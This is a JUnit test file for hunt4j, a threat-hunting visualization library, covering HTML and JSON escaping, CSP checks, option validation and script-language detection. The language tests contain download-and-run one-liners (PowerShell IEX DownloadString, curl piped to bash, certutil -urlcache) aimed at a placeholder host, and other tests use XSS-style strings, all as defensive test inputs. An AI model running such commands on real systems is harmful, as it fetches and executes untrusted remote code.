package dev.hunt4j.visualization;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hunt4j.api.QueryException;
import dev.hunt4j.api.Severity;
import dev.hunt4j.api.data.Column;
import dev.hunt4j.api.data.ResultStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** The renderers without a browser: escaping, option checks, parsing, and the page's structure. */
class RenderersTest {

    static String render(String renderer, Map<String, String> options, Map<String, ResultStream> tables) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Renderers.get(renderer).create(options).render(tables, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    /** Every sample page: the data never closes its script element, and every script is allowed by its CSP hash. */
    @Test
    void pagesAreSelfContainedAndHostileDataStaysInsideItsJson() throws Exception {
        Map<String, String> pages = new LinkedHashMap<>();
        pages.put("timeline", render("timeline", Map.of("group_by", "Computer"), Map.of("e", Samples.events(50, 1))));
        pages.put("value-timeline", render("value-timeline", Map.of(), Map.of("s", Samples.timeSeries())));
        pages.put("proctree", render("proctree", Map.of(), Map.of("p", Samples.processTree(60, 2, 1))));
        pages.put("ti", render("ti", Map.of(), Map.of("t", Samples.ti())));
        pages.put("queries", render("queries", Map.of("title", Samples.HOSTILE), Map.of("q", Samples.queries())));
        pages.put("code", render("code", Map.of(), Map.of("c", Samples.scripts())));
        pages.put("matrix", render("matrix", Map.of("x_column", "DestinationPort", "y_column", "SourceIP"), Map.of("f", Samples.flows(100))));
        pages.put("graph", render("graph", Map.of(), Map.of("l", Samples.logons(50))));
        Pattern script = Pattern.compile("<script>(.*?)</script>", Pattern.DOTALL);
        for (Map.Entry<String, String> e : pages.entrySet()) {
            String html = e.getValue();
            assertFalse(html.contains("window.__pwned=1</script>"), e.getKey() + ": hostile text escaped its JSON");
            assertFalse(html.contains("<img src=x"), e.getKey());
            assertFalse(html.matches("(?s).*(src|href)=\"https?:.*"), e.getKey() + ": loads nothing from the network");
            int dataAt = html.indexOf("<script type=\"application/json\" id=\"hunt4j-data\">");
            int dataEnd = html.indexOf("</script>", dataAt);
            String json = html.substring(dataAt + "<script type=\"application/json\" id=\"hunt4j-data\">".length(), dataEnd);
            assertFalse(json.contains("<"), e.getKey() + ": raw < in the data");
            Json.parse(json); // valid JSON
            Matcher csp = Pattern.compile("script-src ([^\"]+)\"").matcher(html);
            assertTrue(csp.find(), e.getKey());
            Set<String> allowed = Set.of(csp.group(1).split(" "));
            Matcher m = script.matcher(html);
            int scripts = 0;
            while (m.find()) {
                String hash = Base64.getEncoder().encodeToString(MessageDigest.getInstance("SHA-256")
                        .digest(m.group(1).getBytes(StandardCharsets.UTF_8)));
                assertTrue(allowed.contains("'sha256-" + hash + "'"), e.getKey() + ": script " + scripts + " not in the CSP");
                scripts++;
            }
            assertEquals(allowed.size(), scripts, e.getKey());
            assertTrue(html.contains("default-src 'none'"), e.getKey());
        }
        assertTrue(pages.get("queries").contains("<title>&lt;/script&gt;&lt;script&gt;"), "the title is escaped");
    }

    @Test
    void jsonEscapesWhatCouldEndAScriptAndStillRoundTrips() {
        String s = "a</script><!--&>\u2028\u2029\"\\\n\t\u0001 \uD83D\uDE00 \uD800x";
        String json = Json.write(Map.of("k", s));
        assertFalse(json.contains("<") || json.contains(">") || json.contains("&") || json.contains("\u2028"), json);
        assertTrue(json.contains("\\ud800"), "a lone surrogate is escaped, not mangled");
        assertEquals(Map.of("k", s), Json.parse(json));
        assertEquals(java.util.Arrays.asList(1L, 2.5, true, null, "x"), Json.parse("[1, 2.5, true, null, \"x\"]"));
        assertEquals("[null,1,2.5]", Json.write(new double[] {Double.NaN, 1, 2.5}));
        assertThrows(IllegalArgumentException.class, () -> Json.parse("{\"a\": }"));
        assertThrows(IllegalArgumentException.class, () -> Json.parse("[1] x"));
    }

    @Test
    void optionsAreCheckedAndNamed() {
        IllegalArgumentException unknown = assertThrows(IllegalArgumentException.class,
                () -> new TimelineRendererFactory().create(Map.of("group-bi", "Computer")));
        assertTrue(unknown.getMessage().contains("unknown option 'group-bi'") && unknown.getMessage().contains("did you mean 'group_by'"),
                unknown.getMessage());
        IllegalArgumentException height = assertThrows(IllegalArgumentException.class,
                () -> new TimelineRendererFactory().create(Map.of("height", "tall")));
        assertTrue(height.getMessage().contains("option 'height'"), height.getMessage());
        IllegalArgumentException ref = assertThrows(IllegalArgumentException.class,
                () -> new TimelineRendererFactory().create(Map.of("ref_time", "yesterday-ish")));
        assertTrue(ref.getMessage().contains("option 'ref_time'"), ref.getMessage());
        IllegalArgumentException sev = assertThrows(IllegalArgumentException.class,
                () -> new TiBrowserRendererFactory().create(Map.of("min_severity", "scary")));
        assertTrue(sev.getMessage().contains("option 'min_severity'") && sev.getMessage().contains("high, warning"), sev.getMessage());
        IllegalArgumentException matrix = assertThrows(IllegalArgumentException.class, () -> new MatrixRendererFactory().create(Map.of()));
        assertTrue(matrix.getMessage().contains("'x_column'"), matrix.getMessage());
        IllegalArgumentException links = assertThrows(IllegalArgumentException.class,
                () -> new EntityGraphRendererFactory().create(Map.of("links", "Computer")));
        assertTrue(links.getMessage().contains("option 'links'"), links.getMessage());
        IllegalArgumentException lang = assertThrows(IllegalArgumentException.class,
                () -> new CodeViewRendererFactory().create(Map.of("language", "cobol")));
        assertTrue(lang.getMessage().contains("option 'language'"), lang.getMessage());
        // dashes and case are accepted
        new TimelineRendererFactory().create(Map.of("Time-Column", "TimeGenerated", "GROUP_BY", "Computer"));
        IllegalArgumentException none = assertThrows(IllegalArgumentException.class, () -> Renderers.get("pie"));
        assertTrue(none.getMessage().contains("timeline") && none.getMessage().contains("graph"), none.getMessage());
    }

    @Test
    void aMissingColumnIsNamedWithItsOption() {
        QueryException e = assertThrows(QueryException.class, () -> render("timeline", Map.of("time_column", "When"),
                Map.of("events", Samples.events(3, 1))));
        assertTrue(e.getMessage().contains("column 'When' (option 'time_column')") && e.getMessage().contains("Computer"), e.getMessage());
        QueryException g = assertThrows(QueryException.class, () -> render("timeline", Map.of("group_by", "Hostname"),
                Map.of("events", Samples.events(3, 1))));
        assertTrue(g.getMessage().contains("'Hostname' (option 'group_by')"), g.getMessage());
        QueryException tree = assertThrows(QueryException.class, () -> render("proctree", Map.of(), Map.of("events", Samples.events(3, 1))));
        assertTrue(tree.getMessage().contains("proc_key") && tree.getMessage().contains("hunt4j proctree"), tree.getMessage());
        QueryException ti = assertThrows(QueryException.class, () -> render("ti", Map.of(), Map.of("events", Samples.events(3, 1))));
        assertTrue(ti.getMessage().contains("'Ioc'"), ti.getMessage());
    }

    @Test
    void everyInputTableIsClosedEvenWhenRenderingFails() {
        AtomicInteger closed = new AtomicInteger();
        Map<String, ResultStream> tables = new LinkedHashMap<>();
        tables.put("a", counting(Samples.events(3, 1), closed));
        tables.put("b", counting(Samples.signins(3, 1), closed));
        assertThrows(QueryException.class, () -> render("timeline", Map.of("time_column", "Nope"), tables));
        assertEquals(2, closed.get());
    }

    private static ResultStream counting(ResultStream s, AtomicInteger closed) {
        return new ResultStream() {
            @Override
            public List<Column> columns() {
                return s.columns();
            }

            @Override
            public Object[] next() {
                return s.next();
            }

            @Override
            public void close() {
                closed.incrementAndGet();
                s.close();
            }
        };
    }

    @Test
    void timesInTheShapesLogsUse() {
        long t = 1714557600000L; // 2024-05-01T10:00:00Z
        assertEquals(t, Times.millis("2024-05-01T10:00:00Z"));
        assertEquals(t, Times.millis("2024-05-01 10:00:00"));
        assertEquals(t, Times.millis("2024-05-01T12:00:00+02:00"));
        assertEquals(t + 123, Times.millis("2024-05-01T10:00:00.1234567Z"));
        assertEquals(t, Times.millis("2024-05-01T10:00Z"));
        assertEquals(t, Times.millis(1714557600L));
        assertEquals(t, Times.millis("1714557600000"));
        assertEquals(t, Times.millis(java.time.Instant.ofEpochMilli(t)));
        assertEquals(t - 36_000_000L, Times.millis("2024-05-01"));
        assertNull(Times.millis("not a time"));
        assertNull(Times.millis(""));
    }

    @Test
    void languagesAreRecognised() {
        assertEquals("powershell", CodeViewRendererFactory.guess("IEX (New-Object Net.WebClient).DownloadString('http://x')"));
        assertEquals("bash", CodeViewRendererFactory.guess("#!/bin/bash\ncurl -s http://x/a.sh | bash"));
        assertEquals("cmd", CodeViewRendererFactory.guess("@echo off\nset X=%TEMP%\\a.exe\ncertutil -urlcache -f http://x %X%"));
        assertEquals("python", CodeViewRendererFactory.guess("import socket\ns=socket.socket()\n"));
        assertEquals("javascript", CodeViewRendererFactory.guess("var sh = new ActiveXObject('WScript.Shell'); function f() {}"));
        assertEquals("vbscript", CodeViewRendererFactory.guess("Dim o\nSet o = CreateObject(\"WScript.Shell\")\n"));
        assertEquals("none", CodeViewRendererFactory.guess("hello world"));
        assertEquals("cmd", CodeViewRendererFactory.normalizeLanguage("BAT"));
        assertEquals("vbscript", CodeViewRendererFactory.normalizeLanguage("vbs"));
    }

    @Test
    void indicatorMarksDoNotOverlap() {
        Map<String, Set<String>> iocs = new TreeMap<>();
        iocs.put("url", new LinkedHashSet<>(List.of("http://evil.com/a")));
        iocs.put("dns", new LinkedHashSet<>(List.of("evil.com")));
        List<String> types = new ArrayList<>(List.of("dns", "url"));
        List<int[]> marks = CodeViewRendererFactory.marks("get http://EVIL.com/a then evil.com", iocs, types);
        assertEquals(2, marks.size());
        assertEquals(List.of(4, 21, 1), List.of(marks.get(0)[0], marks.get(0)[1], marks.get(0)[2]));
        assertEquals(List.of(27, 35, 0), List.of(marks.get(1)[0], marks.get(1)[1], marks.get(1)[2]));
        assertEquals(Map.of("dns", Set.of("a.com"), "ipv4", Set.of("1.2.3.4")),
                CodeViewRendererFactory.parseIocCell("{\"dns\":[\"a.com\"],\"ipv4\":[\"1.2.3.4\"]}"));
        assertEquals(Map.of("ioc", Set.of("a.com", "1.2.3.4")), CodeViewRendererFactory.parseIocCell("a.com, 1.2.3.4"));
    }

    @Test
    void queryParametersAndExamples() {
        List<QueryBrowserRendererFactory.Param> shortForm = QueryBrowserRendererFactory.parameters("host_name*,start,end");
        assertEquals(3, shortForm.size());
        assertTrue(shortForm.get(0).required());
        assertFalse(shortForm.get(1).required());
        List<QueryBrowserRendererFactory.Param> json = QueryBrowserRendererFactory.parameters(
                "[{\"name\":\"ips\",\"type\":\"list\",\"required\":true},{\"name\":\"n\",\"type\":\"int\",\"default\":5}]");
        assertEquals("list", json.get(0).type());
        assertEquals(5L, json.get(1).defaultValue());
        assertFalse(json.get(1).required());
        assertEquals("./hunt4j query run Net.conns --provider sentinel \\\n    --param ips=10.0.0.1,10.0.0.2",
                QueryBrowserRendererFactory.cliExample("Net.conns", "sentinel", json));
        assertTrue(QueryBrowserRendererFactory.javaExample("Net.conns", "sentinel", json, "hunt4j.yaml")
                .contains("Map.of(\"ips\", List.of(\"10.0.0.1\", \"10.0.0.2\"))"));
        assertEquals("'a b'\\''c'", QueryBrowserRendererFactory.shellQuote("a b'c"));
        assertEquals("sentinel", QueryBrowserRendererFactory.providerOf("MSSentinel"));
        assertEquals("local", QueryBrowserRendererFactory.providerOf("LocalData"));
    }

    @Test
    void tiSeverityWords() {
        assertEquals(Severity.HIGH, TiBrowserRendererFactory.severity("High"));
        assertEquals(Severity.WARNING, TiBrowserRendererFactory.severity("medium"));
        assertEquals(Severity.INFORMATION, TiBrowserRendererFactory.severity("information"));
        assertEquals(Severity.UNKNOWN, TiBrowserRendererFactory.severity(null));
    }

    @Test
    void theExtensionIndexListsEveryRenderer() throws IOException {
        Set<String> listed = new LinkedHashSet<>();
        for (java.net.URL url : Collections.list(getClass().getClassLoader().getResources("META-INF/extensions.idx"))) {
            try (InputStream in = url.openStream()) {
                for (String line : new String(in.readAllBytes(), StandardCharsets.UTF_8).split("\n")) {
                    if (!line.isBlank() && !line.startsWith("#")) {
                        listed.add(line.trim());
                    }
                }
            }
        }
        for (HtmlRendererFactory f : Renderers.all()) {
            assertTrue(listed.contains(f.getClass().getName()), f.getClass().getName() + " missing from extensions.idx: " + listed);
            assertEquals("text/html", f.mediaType());
            assertTrue(f.options().containsKey("title"));
            assertFalse(f.description().isBlank());
        }
        assertEquals(8, Renderers.all().stream().map(HtmlRendererFactory::name).distinct().count());
    }

    @Test
    void iframeEmbeddingEscapesThePage() {
        String frame = Renderers.iframe("<p title=\"x\">a & b</p>", "t\"", 400);
        assertTrue(frame.contains("srcdoc=\"&lt;p title=&quot;x&quot;&gt;a &amp; b&lt;/p&gt;\""), frame);
        assertTrue(frame.contains("sandbox=\"allow-scripts allow-downloads\""));
        assertTrue(frame.contains("title=\"t&quot;\""));
    }

    @Test
    void processTreeSurvivesParentCycles() throws IOException {
        List<Column> cols = List.of(Samples.str("proc_key"), Samples.str("parent_key"), Samples.str("NewProcessName"));
        List<Object[]> rows = List.of(new Object[] {"a", "c", "a.exe"}, new Object[] {"b", "a", "b.exe"}, new Object[] {"c", "b", "c.exe"},
                new Object[] {"d", "d", "d.exe"});
        String html = render("proctree", Map.of(), Map.of("p", ResultStream.of(cols, rows)));
        assertTrue(html.contains("4 processes in 2 trees"), html.substring(html.indexOf("<header>"), html.indexOf("</header>")));
    }

    @Test
    void valueTimelineGroupsBySeveralColumns() throws IOException {
        List<Column> cols = List.of(Samples.str("TimeGenerated"), Samples.str("Host"), Samples.str("Dir"), Samples.str("Bytes"),
                Samples.str("anomalies"));
        List<Object[]> rows = new ArrayList<>();
        for (int h = 0; h < 10; h++) {
            for (String host : List.of("a", "b")) {
                rows.add(new Object[] {"2024-05-01T0" + h + ":00:00Z", host, "out", String.valueOf(h * 10), h == 5 ? "1" : "0"});
            }
        }
        String html = render("value-timeline", Map.of("group_by", "Host,Dir"), Map.of("ts", ResultStream.of(cols, rows)));
        assertTrue(html.contains("Bytes: 20 points") && html.contains("in 2 series") && html.contains("2 anomalies"),
                html.substring(html.indexOf("<header>"), html.indexOf("</header>")));
        assertTrue(html.contains("\"name\":\"a / out\""));
    }
}
